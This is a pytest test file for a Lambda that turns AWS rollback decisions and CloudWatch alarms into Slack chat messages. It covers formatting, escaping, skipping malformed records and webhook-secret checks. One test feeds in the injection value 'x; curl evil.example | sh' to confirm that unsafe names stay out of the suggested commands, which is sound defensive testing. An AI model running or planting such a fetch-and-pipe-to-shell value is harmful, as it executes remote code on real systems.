"""The chat notifier's messages (pure): what a chat shows for each notification the topic carries.

The rollback bodies are what the engine publishes, produced here by the engine itself (the
executor's Notify step and the orchestrator's skip on the evidence) through SnsNotifier; the
alarm bodies are CloudWatch's, from tests/events. Posting is tested in
tests/functional/test_chat_notifier.py.
"""

from __future__ import annotations

import json
import random
import shutil
import subprocess
import sys
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from feedbackctl.engine.aws_ports import SnsNotifier
from feedbackctl.engine.incident import Responder, alarm_facts, respond
from feedbackctl.engine.model import AliasState, LedgerState
from feedbackctl.engine.rollback import Ports, RollbackRequest, execute, gather, plan_rollback
from feedbackctl.engine.verdict import VersionEvidence
from lambdas.chat_notifier import handler
from lambdas.chat_notifier.handler import (
    Notice,
    SkippedError,
    WebhookError,
    lambda_handler,
    notice_for,
)
from lambdas.common import log as common_log
from tests.conftest import load_event
from tests.fakes import FakeLambda, FakeLedger
from tests.unit.test_handler_imports import FORBIDDEN

ROOT = Path(__file__).resolve().parents[2]
STACK = "feedback-events"  # the stack the sample alarm events were written for
FN = "create-feedback"
TOPIC = f"arn:aws:sns:us-east-1:123456789012:{STACK}-notifications"
NOW = datetime(2026, 11, 25, 10, 5, 3, tzinfo=UTC)
ALARM = f"{STACK}-{FN}-lambda-errors"
REASON = (
    "Threshold Crossed: 1 out of the last 1 datapoints [20.0 (25/11/26 10:04:00)] was greater "
    "than the threshold (5.0) (minimum 1 datapoint for OK -&gt; ALARM transition)."
)


class CapturingSns:
    """An SNS client that keeps what it was asked to publish."""

    def __init__(self) -> None:
        self.published: list[dict[str, Any]] = []

    def publish(self, **kwargs: Any) -> None:
        self.published.append(kwargs)


def sns_record(published: dict[str, Any]) -> dict[str, Any]:
    """The Lambda event record SNS delivers for one Publish (the shape of tests/events)."""
    return {
        "EventSource": "aws:sns",
        "EventVersion": "1.0",
        "EventSubscriptionArn": f"{published['TopicArn']}:0b6941c1-8f3c-4a5e-9a1d-6f1e2b3c4d5e",
        "Sns": {
            "Type": "Notification",
            "MessageId": "5f6b8c1e-0d6a-5c43-a2d4-7b1c0d9e8f21",
            "TopicArn": published["TopicArn"],
            "Subject": published["Subject"],
            "Message": published["Message"],
            "Timestamp": "2026-11-25T10:05:03.512Z",
            "SignatureVersion": "1",
            "Signature": "EXAMPLE",
            "SigningCertUrl": "EXAMPLE",
            "UnsubscribeUrl": "EXAMPLE",
            "MessageAttributes": {},
        },
    }


def executed_rollback(
    *, unhealthy: Sequence[str] = (), fail_update: Exception | None = None, **request: Any
) -> dict[str, Any]:
    """What the engine publishes for one rollback of create-feedback from 5 (to 4)."""
    sns = CapturingSns()
    lambda_ = FakeLambda(AliasState("5", revision_id="r5"), ["3", "4", "5"], set(unhealthy))
    lambda_.fail_update = fail_update
    ledger = FakeLedger(LedgerState(FN, live_version="5", previous_of={"5": "4", "4": "3"}))
    ports = Ports(lambda_, ledger, SnsNotifier(sns, TOPIC), clock=lambda: 0.0)
    asked = {
        "function": FN,
        "actor": f"alarm:{ALARM}",
        "reason": f"{ALARM}: Threshold Crossed",
        "now": NOW,
        "automatic": True,
        "incident": f"{ALARM}@2026-11-25T10:05:00Z",
        **request,
    }
    execute(plan_rollback(gather(FN, ports), RollbackRequest(**asked)), ports)
    [published] = sns.published
    return sns_record(published)


class Evidence:
    """Per-version evidence the orchestrator reads: both versions fail alike."""

    def __call__(self, period: int) -> Evidence:
        return self

    def collect(
        self, function: str, versions: Sequence[str], start: datetime, end: datetime
    ) -> dict[str, VersionEvidence]:
        shared = {"3": VersionEvidence("3", 100, errors=20), "2": VersionEvidence("2", 100, 20)}
        return {v: shared[v] for v in versions if v in shared}


def skipped_on_evidence() -> dict[str, Any]:
    """What the orchestrator publishes when the alarm's errors are the stable version's too."""
    sns = CapturingSns()
    lambda_ = FakeLambda(AliasState("3", revision_id="r1"), ["1", "2", "3"])
    ledger = FakeLedger(LedgerState(FN).with_release("2", "1").with_release("3", "2"))
    responder = Responder(Ports(lambda_, ledger, SnsNotifier(sns, TOPIC)), Evidence())
    alarm = json.loads(load_event("sns_alarm_lambda_errors.json")["Records"][0]["Sns"]["Message"])
    response = respond(alarm_facts(alarm, STACK, received_at=NOW), responder, now=NOW)
    assert response.outcome == "skipped"
    [published] = sns.published
    return sns_record(published)


def alarm_record(name: str, **changes: Any) -> dict[str, Any]:
    record: dict[str, Any] = load_event(name)["Records"][0]
    if changes:
        message = {**json.loads(record["Sns"]["Message"]), **changes}
        record["Sns"] = {**record["Sns"], "Message": json.dumps(message)}
    return record


def posted(record: dict[str, Any], stage: str = "prod") -> dict[str, Any]:
    return notice_for(record, stage, STACK).payload()


def commands_block(*commands: str) -> dict[str, Any]:
    text = "Look further:\n```" + "\n".join(commands) + "```"
    return {"type": "section", "text": {"type": "mrkdwn", "text": text}}


def facts_block(*lines: str) -> dict[str, Any]:
    return {"type": "section", "text": {"type": "mrkdwn", "text": "\n".join(lines)}}


def header(text: str) -> dict[str, Any]:
    return {"type": "header", "text": {"type": "plain_text", "text": text}}


# --- rollback decisions ------------------------------------------------------------------------


def test_a_rollback_names_the_function_versions_outcome_who_and_the_commands() -> None:
    title = "[prod] create-feedback rolled back from version 5 to 4"
    assert posted(executed_rollback()) == {
        "text": title,
        "blocks": [
            header(title),
            facts_block(
                "*Function:* create-feedback",
                "*Versions:* 5 → 4",
                "*Outcome:* rolled back",
                "*Detail:* create-feedback rolled back from 5 to 4",
                f"*Why:* {ALARM}: Threshold Crossed",
                f"*By:* alarm:{ALARM}",
                "*At:* 2026-11-25T10:05:03.000Z",
            ),
            commands_block(
                "feedbackctl history --function create-feedback --stage prod",
                "feedbackctl logs create-feedback --since 15m --stage prod",
            ),
        ],
    }


def test_a_refused_rollback_says_which_rule_refused_it_and_why() -> None:
    message = posted(executed_rollback(unhealthy=["4"]))
    title = "[prod] create-feedback: rollback refused (health-check)"
    assert message["text"] == title
    assert message["blocks"][:2] == [
        header(title),
        facts_block(
            "*Function:* create-feedback",
            "*Versions:* 5 → 4",
            "*Outcome:* refused",
            "*Rule:* health-check",
            "*Detail:* version 4 failed its health check (health endpoint answered 503); "
            "alias left on 5",
            f"*Why:* {ALARM}: Threshold Crossed",
            f"*By:* alarm:{ALARM}",
            "*At:* 2026-11-25T10:05:03.000Z",
        ),
    ]


def test_a_failed_rollback_says_where_the_alias_stayed() -> None:
    message = posted(executed_rollback(fail_update=RuntimeError("ServiceException")))
    assert message["text"] == "[prod] create-feedback: rollback failed (alias-update)"
    facts = message["blocks"][1]["text"]["text"]
    assert "*Outcome:* failed\n*Rule:* alias-update\n" in facts
    assert "*Detail:* the alias could not be moved (RuntimeError); it still points at 5" in facts


def test_a_human_rollback_names_the_human() -> None:
    message = posted(executed_rollback(actor="arn:aws:iam::123456789012:user/alice", reason="5xx"))
    facts = message["blocks"][1]["text"]["text"]
    assert "*Why:* 5xx\n*By:* arn:aws:iam::123456789012:user/alice\n" in facts


def test_a_skip_on_the_evidence_names_the_version_kept_and_the_rule() -> None:
    title = "[prod] create-feedback: rollback skipped (shared-errors)"
    assert posted(skipped_on_evidence()) == {
        "text": title,
        "blocks": [
            header(title),
            facts_block(
                "*Function:* create-feedback",
                "*Versions:* 3",
                "*Outcome:* skipped",
                "*Rule:* shared-errors",
                f"*Why:* {ALARM}: version 3's errors are within the rules of the version before "
                "it (v3 20/100 failed (20.0%) vs v2 20/100 failed (20.0%))",
                f"*By:* alarm:{ALARM}",
                "*At:* 2026-11-25T10:05:03.000Z",
            ),
            commands_block(
                "feedbackctl history --function create-feedback --stage prod",
                "feedbackctl logs create-feedback --since 15m --stage prod",
            ),
        ],
    }


# --- CloudWatch alarms -------------------------------------------------------------------------


def test_an_alarm_on_a_function_names_it_from_the_function_name_dimension() -> None:
    title = f"[prod] ALARM: {ALARM}"
    assert posted(alarm_record("sns_alarm_lambda_errors.json")) == {
        "text": title,
        "blocks": [
            header(title),
            facts_block(
                f"*Alarm:* {ALARM}",
                "*State:* OK → ALARM",
                f"*Reason:* {REASON}",
                "*Function:* create-feedback",
                "*What:* More than 5 failed invocations of feedback-events-create-feedback:live "
                "in 60 s",
                "*At:* 2026-11-25T10:05:00.000+0000",
            ),
            commands_block(
                "feedbackctl history --function create-feedback --stage prod",
                "feedbackctl logs create-feedback --since 15m --stage prod",
            ),
        ],
    }


@pytest.mark.parametrize("event", ["sns_alarm_logged_errors.json", "sns_alarm_metric_math.json"])
def test_our_metrics_and_metric_math_alarms_name_the_function_too(event: str) -> None:
    facts = posted(alarm_record(event))["blocks"][1]["text"]["text"]
    assert "\n*Function:* create-feedback\n" in facts


def test_an_alarm_on_no_function_points_at_status_and_every_log() -> None:
    title = "[prod] ALARM: feedback-events-api-5xx"
    assert posted(alarm_record("sns_alarm_no_function.json")) == {
        "text": title,
        "blocks": [
            header(title),
            facts_block(
                "*Alarm:* feedback-events-api-5xx",
                "*State:* OK → ALARM",
                "*Reason:* Threshold Crossed: 1 out of the last 1 datapoints [14.0 (25/11/26 "
                "10:04:00)] was greater than the threshold (10.0) (minimum 1 datapoint for OK "
                "-&gt; ALARM transition).",
                "*What:* More than 10 API 5XX responses",
                "*At:* 2026-11-25T10:05:00.000+0000",
            ),
            commands_block(
                "feedbackctl status --stage prod", "feedbackctl logs --since 15m --stage prod"
            ),
        ],
    }


def test_an_alarm_back_to_ok_says_so() -> None:
    record = alarm_record(
        "sns_alarm_logged_errors.json",
        OldStateValue="ALARM",
        NewStateValue="OK",
        NewStateReason="Threshold Crossed: no datapoints were received for 1 period",
    )
    message = posted(record)
    assert message["text"] == f"[prod] OK: {STACK}-{FN}-errors"
    assert "*State:* ALARM → OK" in message["blocks"][1]["text"]["text"]


def test_a_name_that_is_not_safe_to_type_stays_out_of_the_commands() -> None:
    record = alarm_record(
        "sns_alarm_logged_errors.json",
        Trigger={"Dimensions": [{"name": "Function", "value": "x; curl evil.example | sh"}]},
    )
    message = posted(record)
    assert "*Function:* x; curl evil.example | sh" in message["blocks"][1]["text"]["text"]
    assert message["blocks"][2] == commands_block(
        "feedbackctl status --stage prod", "feedbackctl logs --since 15m --stage prod"
    )


def test_every_suggested_command_is_one_the_cli_accepts() -> None:
    """Each command parses with the real CLI (an unknown option or argument raises)."""
    from feedbackctl.cli.app import load_command

    records = [executed_rollback(), alarm_record("sns_alarm_no_function.json")]
    commands = [c for r in records for c in notice_for(r, "prod", STACK).commands]
    assert len(commands) == 4
    for line in commands:
        program, name, *args = line.split()
        assert program == "feedbackctl"
        context = load_command(name).make_context(name, args)
        assert context.params["stage"] == "prod", line


def test_slack_markup_is_escaped_and_long_values_are_cut() -> None:
    record = alarm_record(
        "sns_alarm_no_function.json",
        AlarmName="a <b> & c",
        NewStateReason="x" * 600,
    )
    message = posted(record, stage="")
    assert message["text"] == "ALARM: a &lt;b&gt; &amp; c"
    assert message["blocks"][0] == header("ALARM: a <b> & c")  # plain text is not markup
    facts = message["blocks"][1]["text"]["text"]
    assert "*Alarm:* a &lt;b&gt; &amp; c\n" in facts
    assert f"*Reason:* {'x' * 499}…\n" in facts
    assert message["blocks"][2] == commands_block(
        "feedbackctl status", "feedbackctl logs --since 15m"
    )
    long_title = Notice("alarm", "t" * 200, (), ()).payload()["blocks"][0]["text"]["text"]
    assert long_title == "t" * 149 + "…"


# --- input that is no notification ---------------------------------------------------------------


def _message(text: str) -> dict[str, Any]:
    return {"EventSource": "aws:sns", "Sns": {"MessageId": "m-1", "Message": text}}


@pytest.mark.parametrize(
    ("record", "why"),
    [
        ("not a record", "not an SNS notification"),
        ({"EventSource": "aws:sns"}, "not an SNS notification"),
        ({"Sns": {"Message": 42}}, "not an SNS notification"),
        (_message("plain text, not JSON"), "the message is not JSON"),
        (_message("[1, 2]"), "the message is not a JSON object"),
        (_message('{"hello": "world"}'), "neither a CloudWatch alarm nor a rollback decision"),
        (
            _message('{"type": "rollback", "outcome": "done"}'),
            "the rollback decision names no function",
        ),
    ],
)
def test_a_record_that_is_no_notification_is_skipped_with_the_reason(record: Any, why: str) -> None:
    with pytest.raises(SkippedError, match=f"^{why}$"):
        notice_for(record, "prod", STACK)


@pytest.mark.parametrize(
    "trigger",
    [
        "SUM",
        {"Dimensions": 42, "Metrics": 7},
        {"Dimensions": ["x", None], "Metrics": [{"MetricStat": {"Metric": {"Dimensions": "x"}}}]},
    ],
)
def test_an_alarm_of_an_unexpected_shape_still_posts_without_a_function(trigger: Any) -> None:
    message = posted(alarm_record("sns_alarm_logged_errors.json", Trigger=trigger))
    assert "*Function:*" not in message["blocks"][1]["text"]["text"]
    assert message["blocks"][2] == commands_block(
        "feedbackctl status --stage prod", "feedbackctl logs --since 15m --stage prod"
    )


def test_any_json_under_the_known_keys_is_a_message_or_a_skip() -> None:
    """Seeded shapes: every value type under every key the notifier reads, nested."""
    rng = random.Random(14)
    keys = [
        "AlarmName", "NewStateValue", "OldStateValue", "NewStateReason", "AlarmDescription",
        "StateChangeTime", "Trigger", "Dimensions", "Metrics", "MetricStat", "Metric", "name",
        "value", "type", "function", "outcome", "from", "to", "version", "previousVersion",
        "rule", "message", "reason", "actor", "at", "details",
    ]  # fmt: skip

    def value(depth: int) -> Any:
        kinds = [None, True, 7, 2.5, "x", "rollback", "Function", "FunctionName"]
        if depth < 3:
            kinds += [[value(depth + 1) for _ in range(2)], shape(depth + 1)]
        return rng.choice(kinds)

    def shape(depth: int) -> dict[str, Any]:
        return {k: value(depth) for k in rng.sample(keys, rng.randint(1, 8))}

    outcomes = {"posted": 0, "skipped": 0}
    for _ in range(600):
        body = shape(0)
        body.update(rng.choice([{"AlarmName": value(1)}, {"type": "rollback"}, {}]))
        try:
            json.dumps(notice_for(_message(json.dumps(body)), "prod", STACK).payload())
            outcomes["posted"] += 1
        except SkippedError:
            outcomes["skipped"] += 1
    assert min(outcomes.values()) > 50  # both paths were exercised


def test_a_batch_of_malformed_records_is_logged_and_skipped_without_reading_the_secret(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("CHAT_WEBHOOK_SECRET_ID", raising=False)  # reading it would raise
    event = {"Records": ["junk", _message("{not json"), _message('{"type": "release"}')]}
    assert lambda_handler(event, None) == {"posted": 0, "skipped": 3}
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(line["level"], line["message"], line["reason"]) for line in lines] == [
        ("WARNING", "record skipped", "not an SNS notification"),
        ("WARNING", "record skipped", "the message is not JSON"),
        ("WARNING", "record skipped", "neither a CloudWatch alarm nor a rollback decision"),
    ]
    assert [line["message_id"] for line in lines] == [None, "m-1", "m-1"]
    assert {line["service"] for line in lines} == {"chat-notifier"}


def test_an_event_without_records_posts_nothing() -> None:
    assert lambda_handler({"feedbackctl": "health-check"}, None) == {"posted": 0, "skipped": 0}


# --- the webhook secret's value ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "url"),
    [
        (
            "https://hooks.slack.com/services/T0/B0/abc",
            "https://hooks.slack.com/services/T0/B0/abc",
        ),
        (
            ' {"url": "https://hooks.slack.com/services/T0/B0/abc"} ',
            "https://hooks.slack.com/services/T0/B0/abc",
        ),
        ("http://127.0.0.1:8080/hook", "http://127.0.0.1:8080/hook"),
    ],
)
def test_the_secret_holds_the_url_or_a_json_object_with_it(value: str, url: str) -> None:
    assert handler._url_from(value) == url


@pytest.mark.parametrize(
    "value",
    [
        "http://hooks.example.com/T0/secret-token",
        "hooks.example.com/secret-token",
        '{"link": 1}',
        "",
        None,
    ],
)
def test_anything_but_an_https_url_is_refused_without_repeating_the_value(value: Any) -> None:
    with pytest.raises(WebhookError) as refused:
        handler._url_from(value)
    assert (
        str(refused.value)
        == 'the webhook secret holds no https URL (write the URL, or {"url": ...})'
    )


# --- the file CloudFormation inlines -------------------------------------------------------------


def test_the_email_pattern_is_the_shared_loggers() -> None:
    assert handler._EMAIL_RE.pattern == common_log._EMAIL_RE.pattern


def test_the_handler_runs_as_a_lone_index_py(tmp_path: Path) -> None:
    """CloudFormation writes the file as `index.py` beside nothing else: it must import no module
    of this repository."""
    shutil.copy(ROOT / "lambdas" / "chat_notifier" / "handler.py", tmp_path / "index.py")
    code = (
        "import json, sys; sys.path.insert(0, '.'); import index; "
        "print(json.dumps(sorted({m.split('.')[0] for m in sys.modules})))"
    )
    result = subprocess.run(
        [sys.executable, "-I", "-c", code], cwd=tmp_path, capture_output=True, text=True, check=True
    )
    loaded = set(json.loads(result.stdout))
    assert {"index", "boto3"} <= loaded
    assert loaded.isdisjoint({"lambdas", "feedbackctl", "tests", *FORBIDDEN})
